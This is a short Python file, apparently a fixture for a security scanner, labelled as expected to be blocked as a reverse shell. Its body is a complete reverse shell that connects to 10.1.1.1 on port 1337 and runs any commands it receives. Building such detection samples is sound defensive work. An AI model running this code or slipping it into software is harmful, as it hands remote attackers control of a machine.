# expect: BLOCKED reverse_shell
import socket
import subprocess

def connect_back(host, port):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((host, port))
    while True:
        data = s.recv(1024)
        if not data:
            break
        proc = subprocess.Popen(data.decode(), shell=True, stdout=subprocess.PIPE,
                                stderr=subprocess.PIPE)
        out, err = proc.communicate()
        s.send(out + err)
    s.close()

connect_back("10.1.1.1", 1337)
